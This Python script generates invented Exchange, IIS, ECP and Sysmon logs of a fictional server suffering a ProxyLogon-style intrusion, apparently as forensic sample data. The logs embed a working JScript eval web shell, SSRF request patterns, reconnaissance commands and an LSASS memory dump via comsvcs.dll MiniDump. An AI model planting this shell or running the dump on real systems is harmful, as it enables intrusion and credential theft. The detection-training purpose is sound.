#!/usr/bin/env python3
"""Writes samples/intrusion: three days of a made-up Exchange server with one intrusion, in the layout of its disk.

Every row is invented after the published log formats; names are .example, outside addresses are documentation addresses.
The same run gives the same bytes.
"""
import datetime
import json
import pathlib
import random
import uuid

root = pathlib.Path(__file__).resolve().parent.parent / "samples/intrusion"
random.seed(20210304)
utc = datetime.timezone.utc
host, site = "MX1", "mx1.harbour.example"
users = ["HARBOUR\\a.lindqvist", "HARBOUR\\j.okafor", "HARBOUR\\m.rossi", "HARBOUR\\s.novak"]
offices = ["192.0.2.10", "192.0.2.11", "192.0.2.57"]
attacker, shell = "198.51.100.23", "aspnet_pages.aspx"
agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"
columns = ("DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,"
           "ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,"
           "ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,"
           "RoutingHint,BackEndCookie").split(",")
proxy, iis, ecp, events = {}, {}, {}, []


def stamp(time, digits=3):
    return time.strftime("%Y-%m-%dT%H:%M:%S.") + f"{time.microsecond // 1000:0{digits}d}Z"


def request(time, protocol, method, stem, status, client, user="", anchor="", hint="", user_agent=agent, query=""):
    number = str(uuid.UUID(int=random.getrandbits(128), version=4))
    row = dict.fromkeys(columns, "")
    row.update(DateTime=stamp(time), RequestId=number, MajorVersion="15", MinorVersion="1", BuildVersion="2106", RevisionVersion="2",
               Protocol=protocol, UrlHost=site, UrlStem=stem, AuthenticationType="FBA" if user else "", IsAuthenticated=str(bool(user)).lower(),
               AuthenticatedUser=user, AnchorMailbox=anchor, UserAgent=user_agent, ClientIpAddress=client, ServerHostName=host,
               HttpStatus=str(status), BackEndStatus=str(status), Method=method, ProxyAction="Proxy", RoutingHint=hint)
    cells = [f'"{row[name]}"' if any(c in row[name] for c in ',"') else row[name] for name in columns]
    proxy.setdefault((protocol, time.strftime("%Y%m%d%H")), []).append((time, ",".join(cells)))
    web(time, method, stem, f"&CorrelationID=<empty>;&cafeReqId={number};{query}", status, client, user or "-", user_agent)


def web(time, method, stem, query, status, client, user, user_agent):
    iis.setdefault(time.strftime("%y%m%d"), []).append(
        (time, f"{time:%Y-%m-%d %H:%M:%S} 10.20.0.5 {method} {stem} {query or '-'} 443 {user} {client} {user_agent.replace(' ', '+')} - {status} 0 0 {random.randint(3, 180)}"))


def event(time, **fields):
    events.append((time, dict(TimeCreated=stamp(time), Hostname=f"{host}.harbour.example", **fields)))


def process(time, image, command, parent, user):
    event(time, Channel="Microsoft-Windows-Sysmon/Operational", SourceName="Microsoft-Windows-Sysmon", EventID=1, Image=image,
          CommandLine=command, ParentImage=parent, User=user, IntegrityLevel="System", UtcTime=time.strftime("%Y-%m-%d %H:%M:%S.000"))


for day in (3, 4, 5):
    begin = datetime.datetime(2021, 3, day, 7, tzinfo=utc)
    for _ in range(40):
        time = begin + datetime.timedelta(seconds=random.randint(0, 36000), milliseconds=random.randint(0, 999))
        protocol, method, stem = random.choice([("Owa", "POST", "/owa/service.svc"), ("Owa", "GET", "/owa/"), ("Ews", "POST", "/EWS/Exchange.asmx"),
                                                ("Mapi", "POST", "/mapi/emsmdb/"), ("Autodiscover", "POST", "/autodiscover/autodiscover.xml"),
                                                ("Ecp", "GET", "/ecp/default.aspx")])
        request(time, protocol, method, stem, random.choice([200, 200, 200, 401]), random.choice(offices), random.choice(users))
    for minute in (12, 44):
        process(begin + datetime.timedelta(minutes=minute), "C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -p",
                "C:\\Windows\\System32\\services.exe", "NT AUTHORITY\\SYSTEM")
    time = begin + datetime.timedelta(hours=2)
    ecp.setdefault(f"{begin:%Y%m%d}", []).append((time, f"{stamp(time)},{host},ECP.Request,S:TIME=21;S:SID=4f1d;S:CMD=Get-InboxRule;S:REQID=;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList;S:EX=;S:ACTID=9d1c;S:RS=0;S:BLD=15.1.2106.2"))

start = datetime.datetime(2021, 3, 4, 3, 12, 40, 250000, tzinfo=utc)
at = lambda seconds: start + datetime.timedelta(seconds=seconds)
backend = f"ServerInfo~a]@{site}:444"
request(start - datetime.timedelta(days=1), "Ecp", "GET", "/ecp/x.js", 500, "203.0.113.200", anchor="ServerInfo~localhost/owa/auth/logon.aspx?",
        hint="X-BEResource-Cookie", user_agent="Mozilla/5.0 (compatible; scanner)")
steps = [(0, "/autodiscover/autodiscover.xml?#", 200), (2, "/mapi/emsmdb/?#", 200), (4, "/ecp/proxyLogon.ecp?#", 241),
         (6, "/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=Qf3p.&schema=OABVirtualDirectory#", 200),
         (8, "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Qf3p.&schema=OABVirtualDirectory#", 200),
         (11, "/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=Qf3p.&schema=ResetOABVirtualDirectory#", 200)]
for seconds, target, status in steps:
    request(at(seconds), "Ecp", "POST", "/ecp/q.js", status, attacker, anchor=backend + target, hint="X-BEResource-Cookie",
            user_agent="ExchangeServicesClient/0.0.0.0" if seconds == 0 else agent)
script = 'http://o/<script language="JScript" runat="server">function Page_Load(){eval(Request["k"],"unsafe");}</script>'
ecp.setdefault("20210304", []).append((at(8), f"{stamp(at(8))},{host},ECP.Request,\"'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''" + script.replace('"', '""') +
                                       "''.Identity=''7c1e22d0-3a55-4d0a-9a9b-5a61b0e4d2f1''';S:URL=/ecp/DDI/DDIService.svc/SetObject;S:BLD=15.1.2106.2\""))
event(at(8), Channel="MSExchange Management", SourceName="MSExchange CmdletLogs", EventID=1,
      Message=f'Cmdlet suceeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl "{script}" -Identity "OAB (Default Web Site)".')
path = f"C:\\inetpub\\wwwroot\\aspnet_client\\{shell}"
event(at(12), Channel="Microsoft-Windows-Sysmon/Operational", SourceName="Microsoft-Windows-Sysmon", EventID=11, Image="System", TargetFilename=path)
for minutes, command in ((9, "whoami"), (10, "net group \"Domain Admins\" /domain"), (14, "quser")):
    time = start + datetime.timedelta(minutes=minutes)
    web(time, "POST", f"/aspnet_client/{shell}", "", 200, attacker, "-", "python-requests/2.25.1")
    process(time, "C:\\Windows\\System32\\cmd.exe", f"\"cmd.exe\" /c {command}", "C:\\Windows\\System32\\inetsrv\\w3wp.exe", "NT AUTHORITY\\SYSTEM")
    process(time + datetime.timedelta(milliseconds=120), f"C:\\Windows\\System32\\{command.split()[0]}.exe", command, "C:\\Windows\\System32\\cmd.exe", "NT AUTHORITY\\SYSTEM")
time = start + datetime.timedelta(minutes=31)
process(time, "C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\root\\lsass.dmp full",
        "C:\\Windows\\System32\\cmd.exe", "NT AUTHORITY\\SYSTEM")

logging = root / "Program Files/Microsoft/Exchange Server/V15/Logging"
for (protocol, hour), rows in proxy.items():
    rows.sort()
    file = logging / f"HttpProxy/{protocol}/HttpProxy_{hour}-1.LOG"
    file.parent.mkdir(parents=True, exist_ok=True)
    head = ["#Software: Microsoft Exchange Server", "#Version: 15.01.2106.002", "#Log-type: HttpProxy Logs", f"#Date: {stamp(rows[0][0])}",
            "#Fields: " + ",".join(columns)]
    file.write_bytes("\r\n".join(head + [row for _, row in rows] + [""]).encode())
for day, rows in iis.items():
    rows.sort()
    file = root / f"inetpub/logs/LogFiles/W3SVC1/u_ex{day}.log"
    file.parent.mkdir(parents=True, exist_ok=True)
    head = ["#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0", f"#Date: {rows[0][0]:%Y-%m-%d %H:%M:%S}",
            "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken"]
    file.write_bytes("\r\n".join(head + [row for _, row in rows] + [""]).encode())
for day, rows in ecp.items():
    rows.sort()
    file = logging / f"ECP/Server/ECPServer{day}-1.LOG"
    file.parent.mkdir(parents=True, exist_ok=True)
    head = ["#Software: Microsoft Exchange Server", "#Version: 15.01.2106.002", "#Log-type: ECP Server Log", f"#Date: {stamp(rows[0][0])}",
            "#Fields: TimeStamp,ServerName,EventId,EventData"]
    file.write_bytes("\r\n".join(head + [row for _, row in rows] + [""]).encode())
file = root / "export/events.ndjson"
file.parent.mkdir(parents=True, exist_ok=True)
file.write_text("".join(json.dumps(fields) + "\n" for _, fields in sorted(events, key=lambda pair: pair[0])))
print(sum(map(len, proxy.values())) + sum(map(len, iis.values())) + sum(map(len, ecp.values())) + len(events), "rows")
